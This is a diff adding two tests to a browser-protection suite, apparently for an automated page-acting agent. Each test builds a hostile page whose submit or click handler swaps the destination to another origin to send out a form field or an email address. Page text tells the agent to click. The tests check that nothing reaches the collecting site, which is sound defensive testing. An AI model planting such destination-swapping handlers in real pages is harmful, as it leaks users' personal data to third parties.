@@ -113,3 +113,26 @@ describe('field data sent in an encoding the earlier rounds did not undo', funct
     expect((await sink.whenReceived(1)).map((record) => `${record.method} ${record.path}`)).to.deep.equal(['GET /photo.jpg']);
   });
 });
+
+describe('a destination the page swaps after it was judged', function () {
+  this.timeout(20_000);
+  const frame = '<iframe name="result" style="width:300px;height:60px"></iframe>';
+
+  it("a form whose own submit handler points its action at another origin", async () => {
+    const run = await attack({
+      page: `${says('Click "Save".')}${frame}<form id="f" method="post" target="result" action="/save"><label>Email <input name="email" value="ada@example.com"></label><button>Save</button></form>`,
+      setup: (root) => root.querySelector('#f')!.addEventListener('submit', (event) => ((event.currentTarget as HTMLFormElement).action = sink.url('/collect'))),
+    });
+    expect(await sink.received(800), 'what reached the other site').to.deep.equal([]);
+    expect(run.blocked.length, 'blocked events').to.be.greaterThan(0);
+  });
+
+  it("a link whose own click handler points its href at another origin", async () => {
+    const run = await attack({
+      page: `${says('Click "Help".')}${frame}<a id="help" target="result" href="/help"><span>Help</span></a>`,
+      setup: (root) => root.querySelector('#help span')!.addEventListener('click', () => root.querySelector('#help')!.setAttribute('href', sink.url('/help?e=ada@example.com'))),
+    });
+    expect(await sink.received(800), 'what reached the other site').to.deep.equal([]);
+    expect(run.blocked.length, 'blocked events').to.be.greaterThan(0);
+  });
+});
